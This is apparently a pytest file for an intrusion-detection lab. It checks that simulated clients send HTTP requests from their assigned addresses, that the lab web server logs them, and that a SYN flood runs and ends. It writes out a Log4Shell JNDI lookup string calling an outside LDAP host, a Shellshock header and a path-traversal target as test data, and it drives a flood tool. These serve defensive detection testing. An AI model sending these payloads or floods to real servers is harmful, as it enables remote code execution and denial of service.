"""Clients speak HTTP from the address they are to use; floods last as long as they are wanted."""

from __future__ import annotations

import shutil
import socket
import time

import pytest

from ids.lab.actors import LOG4SHELL, PAGE, Request, fetch, sent_packets, syn_flood
from ids.lab.removal import wait_until
from ids.lab.topology import ATTACKERS, BENIGN, FLOODER, SERVER, Lab
from ids.lab.website import PAGES, start_website
from tests.lab.clients import PATIENCE_S

pytestmark = [pytest.mark.root, pytest.mark.lab]


def test_a_request_goes_out_as_it_is_written() -> None:
    target = "/..%2f../x?q=${jndi:ldap://192.0.2.1/}"
    lines = Request("a test", target, {"User-Agent": "() { :; }", "X-A": "1"}).encode().split(b"\r\n")
    assert lines[0] == b"GET " + target.encode() + b" HTTP/1.1"
    assert b"User-Agent: () { :; }" in lines
    assert b"X-A: 1" in lines
    assert lines[-2:] == [b"", b""]


def test_the_server_sees_the_clients_own_address(site: Lab) -> None:
    log = site.directory / "web-server" / "access.log"
    fetch(site.attacker, BENIGN, PAGE, PATIENCE_S)
    assert wait_until(lambda: BENIGN in log.read_text(), PATIENCE_S), "it may be written after the answer"
    fetch(site.attacker, ATTACKERS[3], LOG4SHELL, PATIENCE_S)
    assert wait_until(lambda: "${jndi:ldap://" in log.read_text(), PATIENCE_S)
    seen = log.read_text().splitlines()
    assert [line.split()[0] for line in seen[-2:]] == [BENIGN, ATTACKERS[3]]
    assert "${jndi:ldap://" in seen[-1]


def test_every_page_is_served(site: Lab) -> None:
    for name, text in PAGES.items():
        answer = fetch(site.attacker, BENIGN, Request("a page", f"/{name}"), PATIENCE_S)
        assert answer.status == 200
        assert answer.length > len(text)
    assert fetch(site.attacker, BENIGN, Request("no page", "/nothing"), PATIENCE_S).status == 404


def test_without_nginx_python_serves_and_says_so(lab: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shutil, "which", lambda *_, **__: None)
    assert "nginx is not installed" in start_website(lab).software
    assert fetch(lab.attacker, BENIGN, PAGE, PATIENCE_S).status == 200


@pytest.mark.parametrize("tool", ["hping3", "python"])
def test_a_flood_reaches_the_server_from_its_one_address_and_ends(
    lab: Lab, monkeypatch: pytest.MonkeyPatch, tool: str
) -> None:
    if tool == "python":
        monkeypatch.setattr(shutil, "which", lambda *_, **__: None)
    elif shutil.which("hping3") is None:
        pytest.skip("hping3 is not installed")
    with lab.server.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as tap:
        tap.settimeout(PATIENCE_S)
        with syn_flood(lab) as software:
            packets = [tap.recvfrom(100) for _ in range(1000)]
        assert tool in software.lower()
    assert {sender for _, (sender, _) in packets} == {FLOODER}
    syns = [packet for packet, _ in packets if packet[33] == 0x02]
    assert len(syns) > 100
    assert {packet[16:20] for packet in syns} == {socket.inet_aton(SERVER)}
    quiet = sent_packets(lab.attacker)
    time.sleep(0.05)
    assert sent_packets(lab.attacker) - quiet < 100
